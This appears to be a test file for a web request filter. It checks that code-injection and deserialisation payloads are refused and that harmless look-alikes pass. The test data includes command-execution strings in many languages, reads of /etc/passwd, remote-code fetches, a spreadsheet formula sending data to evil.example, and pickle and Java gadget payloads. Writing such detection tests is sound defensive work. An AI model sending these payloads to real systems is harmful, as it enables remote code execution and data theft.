// Programs and serialised objects as values: code of a dozen languages, formulas, LaTeX, and streams that make objects of
// what they are read into. What shows no more than a name, or data by itself, passes.

import { deflateSync, gzipSync } from 'node:zlib'

import { describe, expect, test } from 'vitest'

import { payloadGuard } from '../corpora/guard.ts'
import { exchangeOf, placements } from '../corpora/placements.ts'

const judge = payloadGuard({})

const isRefused = (place: string, text: string): boolean => {
  const exchange = placements[place]?.(text).exchange
  return exchange === undefined || judge(exchange).kind === 'deny'
}

const PLACES = ['query', 'json', 'form', 'multipart', 'xml', 'cookie']
const missed = (text: string): readonly string[] => PLACES.filter((place) => !isRefused(place, text))

const CODE: Readonly<Record<string, readonly string[]>> = {
  PHP: [
    "die(system('id'))",
    "echo system('id');",
    "array_filter(['id'],'system')",
    ";}include('http://e.example/x');/*",
    'echo md5(1);',
    'phpversion();',
    "strrev('metsys')('id')",
    '[phpinfo][0]()',
    '(~%8F%97%8F%96%91%99%90)()',
    '$_="_GET";$$_[0]($$_[1])',
  ],
  Python: [
    '\nos.system("id")\n',
    "type('',(),{})().__class__.__base__",
    'x and eval(input())',
    'import socket,subprocess,os;s=socket.socket()',
    "print(open('/etc/passwd').read())",
  ],
  Groovy: [
    "@GrabResolver(name='a', root='http://e.example')\n@Grab(group='b', module='c', version='1')\nimport B",
  ],
  Ruby: ["Kernel.exec 'id'", 'Class.new.const_get(:Kernel)', 'Open3.capture2("id")', 'qx{id}'],
  Node: [
    '0||(function(){return process.env})()',
    "Function('return this')()",
    "global['process']['mainModule']",
    "import('fs').then(x)",
    'process.dlopen(x)',
  ],
  'Java, .NET': [
    'new URL("http://evil.example").openStream()',
    'new FileInputStream("/etc/passwd")',
    '"".GetType().Assembly.GetType("x")',
    'Server.Execute("x")',
  ],
  Lua: ['load("return 1")()', '"..os.execute("id").."', 'os.getenv("PATH")', 'io.open("/etc/passwd"):read()'],
  formulas: [
    '=REGISTER("kernel32")',
    "\t=cmd|'/C calc'!A0",
    '=IFERROR(HYPERLINK("http://evil.example?x="&A1),"")',
  ],
  LaTeX: ['\\input{/etc/passwd}', '\\immediate\\write18{id}', '\\input|id', '\\csname input\\endcsname{x}'],
  'functions of PHP that a variable or brackets name': [
    "$y='sys'.'tem';($y)('uname');",
    '1;@$b374k("foo")',
    '(system)(ls);',
    '/index/\\think\\app/invokefunction',
  ],
  'objects of the JVM, loops': [
    'new org.springframework.expression.spel.standard.SpelExpressionParser()',
    'while(!false);',
  ],
  'server pages': ['<%=CreateObject("Scripting.FileSystemObject").GetFolder(".")%>'],
}

describe('a program as a value is refused', () => {
  const rows = Object.entries(CODE).flatMap(([language, list]) => list.map((text) => ({ language, text })))
  test.each(rows)('$language: $text', ({ text }) => expect(missed(text)).toEqual([]))
})

const latin1 = (text: string): Uint8Array => Uint8Array.from(text, (character) => character.charCodeAt(0))
const base64 = (bytes: Uint8Array): string =>
  btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join(''))
const hex = (bytes: Uint8Array): string =>
  Array.from(bytes, (byte) => byte.toString(16).padStart(2, '0')).join('')

const java = (size: number): Uint8Array =>
  Uint8Array.from([
    ...latin1('\xac\xed\0\x05sr\0\x11java.util.HashMap'),
    ...Array.from({ length: size }, (_, at) => (at * 37) % 251),
  ])
const pickle = (protocol: number, body: string): Uint8Array =>
  latin1(String.fromCharCode(0x80, protocol) + body)
const REDUCED = '\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.'
const GLOBAL = 'cposix\nsystem\nq\0X\x02\0\0\0idq\x01\x85q\x02Rq\x03.'

const STREAMS: Readonly<Record<string, string>> = {
  'Java in gzip with fixed codes': base64(gzipSync(java(20))),
  'Java in gzip with codes of its own': base64(gzipSync(java(3000))),
  'Java in gzip, stored': base64(gzipSync(java(20), { level: 0 })),
  'Java in zlib': base64(deflateSync(java(20))),
  'Java in zlib for URLs': base64(deflateSync(java(60)))
    .replaceAll('+', '-')
    .replaceAll('/', '_')
    .replaceAll('=', ''),
  'Java in hexadecimal': `0x${hex(java(20))}`,
  'PHP in hexadecimal': hex(latin1('O:4:"User":1:{s:1:"a";i:1;}')),
  'PHP in gzip': base64(gzipSync(latin1('O:4:"User":1:{s:1:"a";i:1;}'))),
  'a list of PHP in zlib': base64(deflateSync(latin1('a:2:{i:7;O:8:"stdClass":0:{}i:7;i:0;}'))),
  'PHP in the quotes of YAML': '- "O:4:\\"User\\":1:{s:1:\\"a\\";i:1;}"',
  'PHP in the quotes of CSV': 'a,"O:4:""User"":1:{s:1:""a"";i:1;}",b',
  'PHP in a data URL': `data:text/plain;base64,${btoa('a:1:{i:0;O:1:"B":0:{}}')}`,
  'a pickle in a data URL': `data:application/octet-stream;base64,${base64(pickle(3, GLOBAL))}`,
  'a pickle of protocol 0 in zlib': base64(deflateSync(latin1("(S'id'\nios\nsystem\n."))),
  'a pickle of protocol 4 in gzip': base64(gzipSync(pickle(4, `\x95\x1d\0\0\0\0\0\0\0${REDUCED}`))),
  'a pickle whose bytes are escaped':
    '\\x80\\x03cposix\\x0asystem\\x0aq\\x00X\\x02\\x00\\x00\\x00idq\\x01\\x85q\\x02Rq\\x03.',
  'Ruby whose bytes are escaped': '\\x04\\x08o:\\x0bGem',
  'a class of Ruby in gzip': base64(gzipSync(latin1('\x04\bc\x0bKernel'))),
  'a list of Ruby in hexadecimal': hex(latin1('\x04\b[\x07c\x15Gem::Specification')),
  '.NET in zlib': base64(deflateSync(latin1('\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0'))),
  'a state of ASP.NET in gzip': base64(gzipSync(latin1('\xff\x012\x84\x11 '))),
  'Ruby in hexadecimal': `0x${hex(latin1('\x04\bo:\x15Gem::Requirement\0'))}`,
  '.NET in hexadecimal': hex(latin1('\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0')),
  'a pickle of protocol 1': base64(latin1(']q\0(K\x01cposix\nsystem\nq\x01(X\x02\0\0\0idtRe.')),
  'a pickle of protocol 0 in hexadecimal': `0x${hex(latin1('(dp0\nVa\ncos\npopen\n(Vid\ntRs.'))}`,
  'a pickle of protocol 2': base64(pickle(2, GLOBAL)),
  'a pickle of protocol 3': base64(pickle(3, GLOBAL)),
  'a pickle of protocol 4': base64(pickle(4, `\x95\x1d\0\0\0\0\0\0\0${REDUCED}`)),
  'a pickle of protocol 5 in hexadecimal': hex(pickle(5, `\x95\x1d\0\0\0\0\0\0\0${REDUCED}`)),
  'a pickle of protocol 0 with INST': "(S'id'\nios\nsystem\n.",
  'a pickle of protocol 0 in base64': btoa("(S'id'\nios\nsystem\n."),
  'a class of Ruby': btoa('\x04\bc\bGem'),
  'a tag of YAML by its whole name': '!<tag:yaml.org,2002:python/object/apply:os.system> [id]',
  'a class of Java in YAML': '!!org.example.Loader {a: 1}',
  'a type of DotNetNuke': '<root type="System.Data.Services.Internal.ExpandedWrapper`2[[x]]"/>',
  'a function of js-yaml': '!!js/function "function(){return 1}()"',
  'a hint of .NET': '{"__type":"System.CodeDom.Compiler.TempFileCollection, System"}',
  'an element of XStream':
    '<java.util.PriorityQueue serialization="custom"><unserializable-parents/></java.util.PriorityQueue>',
  'a map of c3p0': '{"userOverridesAsString":"HexAsciiSerializedMap:aced0005737200116a6176;"}',
  'a login module of Kafka (CVE-2023-25194)':
    'com.sun.security.auth.module.JndiLoginModule required user.provider.url="x" useFirstPass="true";',
  'a pair of Jackson': '["org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",{"properties":{}}]',
}

describe('a stream that makes objects is refused', () => {
  test.each(Object.entries(STREAMS))('%s', (_, text) => expect(missed(text)).toEqual([]))

  test.each(['java.net.URL', 'com.zaxxer.hikari.HikariConfig', 'LLcom.sun.rowset.JdbcRowSetImpl;;'])(
    'the value of a type hint: %s',
    (name) => {
      const { exchange } = exchangeOf(
        'POST',
        '/v1/orders',
        [['content-type', 'application/json']],
        JSON.stringify({ note: { '@type': name, val: 'x' } }),
      )
      expect(exchange === undefined ? 'deny' : judge(exchange).kind).toBe('deny')
      expect(isRefused('json', name)).toBe(/rowset/.test(name))
    },
  )
})

const verdict = (pair: string): string => {
  const { exchange } = exchangeOf(
    'POST',
    '/v1/orders',
    [['content-type', 'application/x-www-form-urlencoded']],
    pair,
  )
  return exchange === undefined ? 'deny' : judge(exchange).kind
}

describe('a function by its name alone', () => {
  test.each([
    'filter[]=phpinfo',
    'vars[0]=shell_exec',
    'callback=phpinfo',
    'function=call_user_func_array',
    '_method=__construct',
  ])('is refused where a parameter is called (CVE-2018-20062): %s', (pair) => {
    expect(verdict(pair)).toBe('deny')
  })

  test.each([
    'q=phpinfo',
    'filter[]=system',
    'callback=onLoad',
    '_method=put',
    'q=__construct',
    'tag=assert',
  ])('passes elsewhere: %s', (pair) => {
    expect(verdict(pair)).toBe('pass')
  })
})

const HARMLESS: readonly string[] = [
  '0x8f3cf7ad23cd3cadbd9735aff958023239c6a063',
  '613a1f0e9c2b4d5e6f708192a3b4c5d6',
  '5d7c9e0f1a2b3c4d5e6f7081',
  btoa('costs of the house in the city of Berlin'),
  'at \\think\\App->run() in App.php',
  '(system) (ls)',
  '$("#a").on("click")',
  'We call open() and print("x") in chapter two',
  'const fs = require("fs")',
  "import: `const a = require('a-b').default` `b`",
  "/** @type {import('a/config').Config} */",
  "assert('You must say which, always.', this.a)",
  'print("hello")',
  'see !!org.example.Loader in the manual',
  'os.path.join(a, b)',
  '\\section{Intro} \\input{chapters/one} \\includegraphics[width=2cm]{img/a.png}',
  'D:\\office\\new\\input',
  '=SUM(A1:A9)',
  '- call(ed) the shop',
  base64(gzipSync(latin1('{"logGroup":"x","logEvents":[{"id":"1","message":"ok"}]}'.repeat(20)))),
  base64(gzipSync(latin1('text'))),
  base64(gzipSync(latin1('\x80\x04\x95\x0b\0\0\0\0\0\0\0]\x94(K\x01K\x02e.'))),
  base64(gzipSync(latin1('\x04\b[\x06i\x06'))),
  hex(latin1('\x04\b[\x06i\x06')).padEnd(24, '0'),
  `data:image/gif;base64,${base64(latin1('GIF89a\x01\0\x01\0\x80\0\0'))}`,
  `data:image/png;base64,${btoa('a:1:{i:0;s:1:"x";}')}`,
  base64(deflateSync(latin1('plain words, many of them'))),
  '8002f1a9c3d7e5b2a8002f1a9c3d7e5b',
  'gAKZ7f3kQm9xwT1vLr5yB8nH2cJ6dS4e',
  'List<java.lang.String> of com.example.Order',
  'com.example.orders.OrderService',
  'java.util.ArrayList',
]

test.each(HARMLESS)('what makes nothing and runs nothing passes: %s', (text) => {
  expect(['json', 'form', 'query'].filter((place) => isRefused(place, text))).toEqual([])
})
